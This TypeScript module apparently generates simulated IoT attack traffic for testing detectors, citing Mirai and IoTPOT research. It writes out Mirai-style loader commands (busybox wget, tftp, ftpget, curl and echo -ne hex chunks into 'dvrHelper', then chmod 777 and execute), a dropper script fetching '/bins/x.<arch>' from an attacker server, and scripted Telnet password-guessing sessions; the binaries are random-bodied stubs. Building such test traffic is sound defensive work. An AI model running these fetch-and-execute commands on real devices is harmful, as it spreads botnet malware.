import { be16, be32, type Bytes, joined, latin } from '../frames.ts'
import { pairs } from '../pairs.ts'
import { bytes, type End, type Evasion, type Host, type Mark, type Scene, type Turn } from '../scene.ts'
import { choice, flag, number, vector } from '../vector.ts'
import { telnetTries } from './guess.ts'

const EVASION = choice('none', 'what becomes of the segments', ['none', 'segments', 'reorder', 'overlap', 'fragments'])

/** An ELF header (gABI, figure 4-3) of 32 bits before a random body: no program. */
export function elf(scene: Scene, machine: string, size: number): Bytes {
  const little = machine !== 'mips'
  const kind = { mips: 8, mipsel: 8, arm: 40 }[machine] ?? 3
  const half = (n: number) => (little ? be16(n).reverse() : be16(n))
  const word = (n: number) => (little ? be32(n).reverse() : be32(n))
  // executable, version 1, entry point, program headers right after this header, none of sections
  const rest = [
    half(2),
    half(kind),
    word(1),
    word(0x400260),
    word(52),
    word(0),
    word(0),
    half(52),
    half(32),
    half(3),
    half(40),
    half(0),
    half(0),
  ]
  const head = joined([0x7f], 'ELF', [1, little ? 1 : 2, 1, 0], new Uint8Array(8), ...rest)
  return joined(head, bytes(scene.chance, Math.max(0, size - head.length)))
}

const script = (from: string): Bytes =>
  latin(
    `#!/bin/sh\ncd /tmp || cd /var/run || cd /mnt\n${['mips', 'mpsl', 'arm', 'arm7']
      .map((a) => `wget http://${from}/bins/x.${a}; chmod +x x.${a}; ./x.${a}; rm -rf x.${a}`)
      .join('\n')}\n`,
  )

interface Fetch {
  method: string
  port: number
  kind: string
  size: number
  path: string
  evasion: string
  ipv6: boolean
}

/** The device fetches a program. Returns when it has it. */
export function fetchProgram(scene: Scene, p: Fetch, from: number, server: Host): number {
  const mark: Mark = { device: scene.device, stage: 'fetched', role: 'source', also: ['loading'] }
  const body = p.kind === 'script' ? script(server.ip.join('.')) : elf(scene, p.kind, p.size)
  const client: End = { host: scene.device, port: scene.port(scene.device) }
  const common = { client, at: from, mark, evasion: p.evasion as Evasion, ...(p.ipv6 && { six: true }) }
  const address = p.ipv6 ? '[2001:db8:bad::1]' : server.ip.join('.')
  if (p.method === 'tftp') return overTftp(scene, p, from, server, body, mark)
  if (p.method === 'ftp') {
    const data = 20_000 + scene.chance.below(20_000)
    const control: Turn[] = [
      { by: 'server', says: '220 ready\r\n' },
      { by: 'client', says: 'USER anonymous\r\n' },
      { by: 'server', says: '331 password\r\n' },
      { by: 'client', says: 'PASS busybox@\r\n' },
      { by: 'server', says: '230 logged in\r\n' },
      { by: 'client', says: 'TYPE I\r\n' },
      { by: 'server', says: '200 ok\r\n' },
      { by: 'client', says: 'PASV\r\n' },
      { by: 'server', says: `227 Entering Passive Mode (${[...server.ip, data >>> 8, data & 255].join()})\r\n` },
      { by: 'client', says: `RETR ${p.path.slice(p.path.lastIndexOf('/') + 1)}\r\n` },
      { by: 'server', says: '150 here it comes\r\n' },
    ]
    const end = scene.talk({ ...common, server: { host: server, port: p.port || 21 }, turns: control, ends: 'open' })
    return scene.talk({
      ...common,
      client: { host: scene.device, port: scene.port(scene.device) },
      server: { host: server, port: data },
      at: end,
      turns: [{ by: 'server', says: body }],
    })
  }
  const head = `HTTP/1.0 200 OK\r\nServer: Apache\r\nContent-Type: application/octet-stream\r\nContent-Length: ${body.length}\r\n\r\n`
  const agent = p.method === 'curl' ? 'curl/7.38.0' : 'Wget'
  return scene.talk({
    ...common,
    server: { host: server, port: p.port || 80 },
    turns: [
      {
        by: 'client',
        says: `GET ${p.path} HTTP/1.1\r\nHost: ${address}${p.port && p.port !== 80 ? `:${p.port}` : ''}\r\nUser-Agent: ${agent}\r\nConnection: close\r\n\r\n`,
      },
      { by: 'server', says: joined(head, body) },
    ],
  })
}

/** RFC 1350: a request to the well-known port, blocks from another. */
function overTftp(scene: Scene, p: Fetch, from: number, server: Host, body: Bytes, mark: Mark): number {
  const here: End = { host: scene.device, port: scene.port(scene.device) }
  const there: End = { host: server, port: 40_000 + scene.chance.below(20_000) }
  const way = { mark, ...(p.ipv6 && { six: true }) }
  const name = p.path.slice(p.path.lastIndexOf('/') + 1)
  scene.udp(from, here, { host: server, port: p.port || 69 }, joined([0, 1], name, [0], 'octet', [0]), way)
  let at = from + 0.03
  for (let block = 1; (block - 1) * 512 <= body.length; block++) {
    scene.udp(at, there, here, joined([0, 3], be16(block), body.subarray((block - 1) * 512, block * 512)), way)
    scene.udp(at + 0.001, here, there, joined([0, 4], be16(block)), way)
    at += 0.03
  }
  return at
}

const fetchParams = {
  port: number(0, 'port of the server; 0: as the method has it'),
  kind: choice('mips', 'what is fetched', ['mips', 'mipsel', 'arm', 'x86', 'script']),
  size: number(60_000, 'bytes of the program'),
  path: choice('/bins/x.mips', 'path or name of the file'),
  evasion: EVASION,
  ipv6: flag(false, 'over IPv6'),
}

export const fetched = vector({
  id: 'fetch',
  title: 'a thing fetches a program from a bare address',
  after: 'Antonakakis et al. 2017, section 2 (loaders); Costin and Zaddach, IoT Malware, Black Hat 2018; RFC 1350',
  params: { method: choice('wget', 'how', ['wget', 'curl', 'tftp', 'ftp']), ...fetchParams },
  make(scene, p, from) {
    return fetchProgram(scene, p, from, scene.out('loader', 'attacker'))
  },
})

const ESCAPED = (b: Bytes) => [...b].map((n) => `\\x${n.toString(16).padStart(2, '0')}`).join('')

/** What is typed to bring a program, a line each. */
function loader(scene: Scene, by: string, server: Host, token: string): string[] {
  const address = server.ip.join('.')
  const end = `; /bin/busybox ${token}`
  if (by === 'echo') {
    const program = elf(scene, 'mips', 600)
    const lines = [`/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper${end}`]
    for (let at = 0; at < program.length; at += 128)
      lines.push(`echo -ne "${ESCAPED(program.subarray(at, at + 128))}" >${at ? '>' : ''} dvrHelper${end}`)
    return [...lines, `./dvrHelper${end}`]
  }
  const get = {
    wget: `/bin/busybox wget http://${address}:80/bins/x.mips -O - > dvrHelper`,
    tftp: `/bin/busybox tftp -g -l dvrHelper -r x.mips ${address}`,
    ftpget: `/bin/busybox ftpget -u anonymous -p anonymous ${address} dvrHelper x.mips`,
    curl: `curl -O http://${address}/bins/x.mips`,
  }[by]!
  return [`${get}; /bin/busybox chmod 777 dvrHelper${end}`, `./dvrHelper telnet.mips${end}`]
}

export const shell = vector({
  id: 'shell',
  title: 'somebody gets in by Telnet after refused passwords, asks which shell it is, and loads a program',
  after:
    'Antonakakis et al. 2017, section 2; Pa et al., IoTPOT, WOOT 2015 (enable, system, shell, sh; a made-up applet of BusyBox)',
  params: {
    refused: number(4, 'passwords refused before'),
    port: number(23, 'port'),
    token: choice('ECCHI', 'the applet that does not exist'),
    loader: choice('wget', 'how the program comes', ['none', 'wget', 'curl', 'tftp', 'ftpget', 'echo']),
    evasion: EVASION,
  },
  make(scene, p, from) {
    const { chance, device } = scene
    const attacker = scene.stranger()
    const server = scene.out('loader', 'attacker')
    const guessed: Mark = { device, stage: 'guessed', role: 'target' }
    const entered: Mark = { device, stage: 'entered', role: 'target', also: ['loading'] }
    const loading: Mark = { device, stage: 'loading', role: 'target' }
    const all = pairs()
    const list = Array.from({ length: p.refused + 1 }, (_, i) => all[(chance.below(5) + 7 * i) % all.length]!)
    const typed = (says: string, answer: string, mark: Mark): Turn[] => [
      { by: 'client', says: `${says}\r\n`, after: 0.1, mark },
      { by: 'server', says: `${says}\r\n${answer}# `, mark },
    ]
    const applet = `${p.token}: applet not found\r\n`
    const turns: Turn[] = [
      ...telnetTries(list, true, { tried: guessed, in: entered }),
      ...['enable', 'system', 'shell', 'sh'].flatMap((word) =>
        typed(word, word === 'sh' ? '' : `-sh: ${word}: not found\r\n`, entered),
      ),
      ...typed(`/bin/busybox ${p.token}`, applet, entered),
      ...typed(
        `/bin/busybox cat /proc/mounts; /bin/busybox ${p.token}`,
        `rootfs / rootfs rw 0 0\r\ntmpfs /tmp tmpfs rw 0 0\r\n${applet}`,
        entered,
      ),
      ...(p.loader === 'none' ? [] : loader(scene, p.loader, server, p.token).flatMap((l) => typed(l, applet, loading))),
    ]
    const end = scene.talk({
      client: { host: attacker, port: 20_000 + chance.below(40_000) },
      server: { host: device, port: p.port },
      at: from,
      mark: guessed,
      evasion: p.evasion as Evasion,
      turns,
    })
    const method = { wget: 'wget', curl: 'curl', tftp: 'tftp', ftpget: 'ftp' }[p.loader]
    if (!method) return end
    return fetchProgram(
      scene,
      { method, port: 0, kind: 'mips', size: 30_000, path: '/bins/x.mips', evasion: 'none', ipv6: false },
      end - 0.12,
      server,
    )
  },
})
